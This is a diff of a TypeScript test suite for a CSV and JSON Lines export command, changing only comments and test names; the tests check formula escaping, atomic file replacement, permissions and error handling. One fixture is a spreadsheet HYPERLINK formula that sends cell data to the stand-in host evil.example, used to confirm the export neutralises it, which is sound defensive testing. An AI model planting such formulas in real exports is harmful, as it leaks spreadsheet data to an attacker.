@@ -1,4 +1,4 @@
-// `portal acceptances export`: everything, exactly, in constant memory, and never half a file.
+// `portal acceptances export`: complete and exact, in constant memory, and never a partial file.
 import assert from 'node:assert/strict'
 import { execFileSync } from 'node:child_process'
 import { mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
@@ -17,7 +17,7 @@ const ATTEMPT_COLUMNS =
   'id,asked_at,answered_at,engine_status,policy_version,document_sha256,locale,document_source,client_address'
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"x")'
 
-/** Two attempts at a verdict whose id begins with a hyphen, under a rule that is a formula; and one pending acceptance. */
+/** Two attempts of a verdict whose id starts with a hyphen, with a formula as rule name; and one pending acceptance. */
 async function smallLedger(t: TestContext, database = sqlite) {
   const location = await emptyLedger(t, database)
   let now = Date.UTC(2026, 10, 20, 12)
@@ -43,7 +43,7 @@ const lines = (text: string) => text.split('\n').filter((line) => line !== '')
 
 for (const database of reachable) {
   describe(`export, ${database.name}`, { skip: database.skip }, () => {
-    test('JSON Lines hold every column as it is; CSV the same, but for formulas', async (t) => {
+    test('JSON Lines has every column unchanged; CSV the same, except for formulas', async (t) => {
       const ledger = await smallLedger(t, database)
       const rows = await query(ledger, 'select * from acceptance order by requested_at')
       const attempts = await query(ledger, `select ${ATTEMPT_COLUMNS} from attempt order by id`)
@@ -74,7 +74,7 @@ for (const database of reachable) {
       const firstLine = `${first?.id},'-abcdefghijklmnopqrstu,"'=HYPERLINK(""https://evil.example/?""&A1;""x"")",2026-11-20,${first?.document_sha256},de,shown,accepted,2026-11-20T12:00:00.000Z,2026-11-20T12:00:00.003Z,302,2,2026.47.0-IR,192.0.2.7`
       const secondLine = `${second?.id},${second?.jti},"two\nlines, ""quoted""",2026-11-20,${second?.document_sha256},de,shown,pending,2026-11-20T12:00:00.004Z,,,1,2026.47.0-IR,`
       assert.deepEqual(new Set(header.split(',')), new Set(Object.keys(first ?? {})))
-      // The verdict's id may begin with a hyphen by chance.
+      // A random id may start with a hyphen.
       assert.equal(csv?.stdout.replace("'-", '-'), `${header}\r\n${firstLine}\r\n${secondLine}\r\n`.replace("'-", '-'))
       assert.match(csv?.stdout ?? '', /,'-abcdefghijklmnopqrstu,/)
       const ofAttempts = attempts.map((attempt) => Object.values(attempt).join(',').replace('@', "'@"))
@@ -151,7 +151,7 @@ test('the filters, nothing that matches, and attempts that are missing', async (
 })
 
 describe('where it goes', () => {
-  test('a file takes the place of the old one, for its owner alone; a link stays a link', async (t) => {
+  test('a file replaces the old one, readable for its owner only; a link stays a link', async (t) => {
     const ledger = await smallLedger(t)
     const folder = temporaryFolder(t)
     const file = join(folder, 'acceptances.csv')
@@ -168,7 +168,7 @@ describe('where it goes', () => {
     assert.deepEqual(readdirSync(folder).sort(), ['acceptances.csv', 'link.csv'])
   })
 
-  test('a pipe, a folder, a folder that is missing, a full disk', async (t) => {
+  test('a pipe, a folder, a missing folder, a full disk', async (t) => {
     const ledger = await smallLedger(t)
     const folder = temporaryFolder(t)
     mkdirSync(join(folder, 'folder'))
@@ -192,7 +192,7 @@ describe('where it goes', () => {
     assert.deepEqual(readdirSync(folder).sort(), ['fifo', 'folder'])
   })
 
-  test('standard output that is full', {
+  test('a full standard output', {
     skip: skipWithoutDevFull,
   }, async (t) => {
     const { status, stderr } = await gatewayctl(EXPORT, {
@@ -203,7 +203,7 @@ describe('where it goes', () => {
     assert.match(stderr, /^error: the output cannot be written: ENOSPC.*\n$/)
   })
 
-  test('a reader that has seen enough: a quiet end', async (t) => {
+  test('a reader that closes the pipe: ends without an error', async (t) => {
     const ledger = await emptyLedger(t, sqlite)
     await fill(ledger, 20_000)
     for (const format of ['csv', 'jsonl']) {
@@ -215,7 +215,7 @@ describe('where it goes', () => {
 })
 
 describe('on a terminal', { skip: skipWithoutScript }, () => {
-  test('progress beside a file or a pipe, safe text on the terminal itself', async (t) => {
+  test('progress with a file or a pipe, escaped text on the terminal itself', async (t) => {
     const ledger = await emptyLedger(t, sqlite)
     await fill(ledger, 3_000)
     await query(
@@ -239,7 +239,7 @@ describe('on a terminal', { skip: skipWithoutScript }, () => {
     assert.ok(!toScreen.screen.includes('\u001b'))
   })
 
-  test('Ctrl-C, or an end from outside: the old file stays, and nothing else', { timeout: 120_000 }, async (t) => {
+  test('Ctrl-C or a signal: only the old file remains', { timeout: 120_000 }, async (t) => {
     const ledger = await emptyLedger(t, sqlite)
     await fill(ledger, 50_000)
     const folder = temporaryFolder(t)
